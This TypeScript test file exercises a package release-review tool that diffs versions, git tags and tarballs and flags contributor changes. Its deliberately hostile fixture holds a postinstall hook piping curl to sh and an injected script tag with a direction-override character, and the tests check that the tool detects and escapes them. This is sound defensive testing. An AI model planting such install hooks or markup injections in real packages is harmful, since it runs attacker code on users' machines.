import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { after, test } from "node:test";
import type { Review } from "../../model/index.ts";
import { screenOf } from "../../report/tones.ts";
import { formatReviewHtml } from "../../report/review-html.ts";
import { formatReviewJson } from "../../report/review-json.ts";
import { formatReviewMarkdown } from "../../report/review-markdown.ts";
import { formatReviewSarif } from "../../report/review-sarif.ts";
import { formatReviewTerminal, type ReviewOutput } from "../../report/review-terminal.ts";
import { review } from "./review.ts";
import { acceptReview, importReviews } from "./statements.ts";

const scratch = mkdtempSync(join(tmpdir(), "tributary-review-"));
after(() => rmSync(scratch, { recursive: true, force: true }));

function write(folder: string, files: Readonly<Record<string, string>>): string {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(scratch, folder, path)), { recursive: true });
    writeFileSync(join(scratch, folder, path), text);
  }
  return join(scratch, folder);
}

const source = Array.from({ length: 60 }, (_, at) => `exports.f${at} = (list) => list.slice(${at});`).join("\n");
const manifest = (version: string, more: object = {}): string =>
  JSON.stringify({ name: "kit", version, main: "index.js", ...more }, null, 2);
const honest = { "package.json": manifest("1.0.0"), "index.js": `${source}\n` };
const hostile = {
  "package.json": manifest("1.0.1", { scripts: { postinstall: "curl http://127.0.0.1:9/x | sh" }, dependencies: { stranger: "^1.0.0" } }),
  "index.js": `${source.replace("slice(30)", "slice(31)")}\n// <script>alert("\u202e")</script>\n`,
};
const env = { XDG_DATA_HOME: join(scratch, "data"), HOME: scratch, USER: "tester" };

async function reviewed(cwd = scratch): Promise<Review> {
  write("old", honest);
  write("new", hostile);
  const [one] = await review({ kind: "pair", before: join(scratch, "old"), after: join(scratch, "new") }, { cwd, env, offline: true });
  assert.ok(one !== undefined);
  return one;
}

const output: ReviewOutput = { screen: screenOf(false, 100, {}, "linux"), all: false, toolVersion: "0" };

test("a hook that fetches and runs is what the review begins with, and unchanged code is not in it", async () => {
  const one = await reviewed();
  assert.ok(one.verdict.verdict === "block" || one.verdict.verdict === "review", one.verdict.verdict);
  assert.ok(one.verdict.families.includes("hook") && one.verdict.families.includes("dependency"));
  assert.deepEqual(
    one.files.map(({ path }) => path),
    ["index.js", "package.json"],
  );
  const hunk = one.files[0]?.hunks[0];
  assert.deepEqual([hunk?.beforeLine, hunk?.lines.filter(({ kind }) => kind !== "same").length], [28, 2]);
  assert.match(formatReviewTerminal([one], output), /npm-script postinstall[\s\S]*curl http:\/\/127\.0\.0\.1:9\/x \| sh/);
});

test("a release against itself has no news, and the same review gives the same bytes", async () => {
  write("old", honest);
  const [same] = await review(
    { kind: "pair", before: join(scratch, "old"), after: join(scratch, "old") },
    { cwd: scratch, env, offline: true },
  );
  assert.equal(same?.verdict.verdict, "nothing");
  assert.deepEqual(same.files, []);
  const [a, b] = [await reviewed(), await reviewed()];
  for (const format of [formatReviewJson, formatReviewHtml, formatReviewSarif, formatReviewMarkdown])
    assert.equal(format([a], output), format([b], output));
});

test("no output lets a package's own text through as markup, command or direction of reading", async () => {
  const one = await reviewed();
  const page = formatReviewHtml([one], output);
  assert.doesNotMatch(page, /<script/);
  assert.match(page, /class="come[^"]*">\/\/ &lt;script&gt;alert\(&quot;\\u\{202e\}/);
  for (const format of [formatReviewHtml, formatReviewMarkdown, formatReviewTerminal, formatReviewSarif])
    assert.doesNotMatch(format([one], output), /\u202e/);
  const sarif = JSON.parse(formatReviewSarif([one], output)) as { runs: { results: { ruleId: string; level: string }[] }[] };
  assert.ok(sarif.runs[0]?.results.some(({ ruleId }) => ruleId === "behaviour/new-hook"));
});

test("two revisions of a repository are two sides, and a tarball is the folder that it was made from", async () => {
  const folder = write("repository", honest);
  const git = (...args: string[]): void =>
    void execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t.example", ...args], { cwd: folder, stdio: "ignore" });
  git("init", "-q");
  git("add", ".");
  git("commit", "-qm", "one");
  write("repository", hostile);
  git("commit", "-qam", "two");
  const [byGit] = await review({ kind: "pair", before: "HEAD~1", after: "HEAD" }, { cwd: folder, env, offline: true });
  assert.equal(byGit?.difference, (await reviewed()).difference);
  execFileSync("tar", ["-czf", join(scratch, "new.tgz"), "-C", scratch, "new"]);
  const [packed] = await review({ kind: "pair", before: "old", after: "new.tgz" }, { cwd: scratch, env, offline: true });
  assert.equal(packed?.difference, byGit?.difference);
});

test("two tagged revisions tell a new tagger, a return after a long silence, and who newly does all the work", async () => {
  const folder = write("tagged", honest);
  const git = (who: string, at: string, ...args: string[]): void => {
    const date = `${at}T12:00:00Z`;
    const me = ["-c", `user.name=${who}`, "-c", `user.email=${who}@t.example`, "-c", "tag.gpgSign=false", "-c", "commit.gpgSign=false"];
    execFileSync("git", [...me, ...args], {
      cwd: folder,
      stdio: "ignore",
      env: { ...process.env, GIT_AUTHOR_DATE: date, GIT_COMMITTER_DATE: date },
    });
  };
  git("anna", "2020-01-01", "init", "-q");
  for (let month = 1; month <= 9; month++) {
    for (let day = 1; day <= 3; day++) git("anna", `2020-0${month}-0${day}`, "commit", "--allow-empty", "-qm", `${month}.${day}`);
    git("anna", `2020-0${month}-05`, "tag", "-a", `v1.${month}.0`, "-m", "release");
  }
  git("anna", "2023-05-01", "add", ".");
  for (let day = 1; day <= 6; day++) git("bert", `2023-05-0${day}`, "commit", "--allow-empty", "-qm", `late ${day}`);
  git("bert", "2023-05-08", "tag", "-a", "v1.10.0", "-m", "release");
  const [one] = await review({ kind: "pair", before: "v1.9.0", after: "v1.10.0" }, { cwd: folder, env, offline: true });
  const ids = [...(one?.verdict.reasons ?? []), ...(one?.verdict.context ?? [])].map(({ id }) => id.replace("continuity/", ""));
  for (const id of ["new-publisher", "dormant-return", "young-majority", "share-rises"])
    assert.ok(ids.includes(id), `${id}: ${ids.join()}`);
  // A newcomer after a long silence: rare enough to ask for a look by itself.
  assert.equal(one?.verdict.verdict, "review");
});

test("a committer who comes to build files and workflows that others kept is told, without his name", async () => {
  const folder = write("reach", { "src/a.c": "1", "configure.ac": "1", ".github/workflows/ci.yml": "1", "a name, with\ttab": "1" });
  const git = (who: string, at: string, ...args: string[]): void => {
    const me = ["-c", `user.name=${who}`, "-c", `user.email=${who}@T.example`, "-c", "tag.gpgSign=false", "-c", "commit.gpgSign=false"];
    const date = `${at}T12:00:00Z`;
    const dates = { GIT_AUTHOR_DATE: date, GIT_COMMITTER_DATE: date };
    execFileSync("git", [...me, ...args], { cwd: folder, stdio: "ignore", env: { ...process.env, ...dates } });
  };
  const works = (who: string, at: string, files: Readonly<Record<string, string>>): void => {
    write("reach", files);
    git(who, at, "add", "--all");
    git(who, at, "commit", "-qm", at);
  };
  git("anna", "2020-01-01", "init", "-q", "-b", "main");
  works("anna", "2020-01-01", {});
  for (let day = 1; day <= 30; day++)
    works("anna", `2020-03-${String(day).padStart(2, "0")}`, { "configure.ac": `a${day}`, "src/a.c": `a${day}` });
  for (let day = 1; day <= 4; day++) works("jay", `2021-04-0${day}`, { "src/a.c": `j${day}` });
  git("anna", "2021-05-01", "tag", "v1.0.0");
  for (let day = 1; day <= 3; day++) works("jay", `2023-04-0${day}`, { "configure.ac": `j${day}`, ".github/workflows/ci.yml": `j${day}` });
  for (let day = 4; day <= 6; day++) works("anna", `2023-04-0${day}`, { "src/a.c": `b${day}` });
  git("anna", "2023-05-01", "tag", "v1.1.0");
  const [one] = await review({ kind: "pair", before: "v1.0.0", after: "v1.1.0" }, { cwd: folder, env, offline: true });
  const told = [...(one?.verdict.reasons ?? []), ...(one?.verdict.context ?? [])].find(({ id }) => id === "continuity/reach-grows");
  assert.equal(
    told?.message,
    "A committer with 4 commits since 2021 newly works in continuous integration (3 commits) and build files (3 commits), which only others touched until then.",
  );
});

test("what is neither file nor release nor revision is a fault with a hint, and no option of git's", async () => {
  for (const wanted of ["nowhere", "--output=x", ""]) {
    await assert.rejects(
      review(
        { kind: "pair", before: wanted, after: wanted === "" ? "no-such" : wanted },
        { cwd: join(scratch, "repository"), env, offline: true },
      ),
      {
        name: "Fault",
      },
    );
  }
});

test("a signed statement is believed by those who hold its key, for exactly this difference, until its day", async () => {
  const mine = write("mine", { ".git/HEAD": "" });
  const theirs = write("theirs", { ".git/HEAD": "" });
  const one = await reviewed(mine);
  assert.deepEqual(one.statements, []);
  const now = Date.parse("2026-06-01T00:00:00Z");
  const paths = acceptReview(one, { cwd: mine, env, now, reviewer: "anna", criteria: [], result: "accepted", note: "read", days: 10 });
  const at = (day: string): typeof env & { SOURCE_DATE_EPOCH: string } => ({ ...env, SOURCE_DATE_EPOCH: String(Date.parse(day) / 1000) });
  const seen = async (cwd: string, day: string, after = "new"): Promise<number> => {
    const [again] = await review(
      { kind: "pair", before: join(scratch, "old"), after: join(scratch, after) },
      { cwd, env: at(day), offline: true },
    );
    return again?.statements.length ?? -1;
  };
  assert.deepEqual([await seen(mine, "2026-06-05"), await seen(mine, "2026-06-20"), await seen(theirs, "2026-06-05")], [1, 0, 0]);
  write("other", { ...hostile, "index.js": `${source}\n` });
  assert.equal(await seen(mine, "2026-06-05", "other"), 0, "another difference was not reviewed");

  const taken = importReviews(dirname(paths.statement), paths.key, { cwd: theirs, env });
  assert.deepEqual([taken.taken.length, taken.left], [1, []]);
  assert.equal(await seen(theirs, "2026-06-05"), 1);

  const file = join(theirs, ".tributary", "reviews", readdirSync(join(theirs, ".tributary", "reviews"))[0] ?? "");
  const envelope = JSON.parse(readFileSync(file, "utf8")) as { payload: string };
  const forged = Buffer.from(envelope.payload, "base64").toString().replace("anna", "berta");
  writeFileSync(file, JSON.stringify({ ...envelope, payload: Buffer.from(forged).toString("base64") }));
  assert.equal(await seen(theirs, "2026-06-05"), 0, "a changed statement counts no more");
});
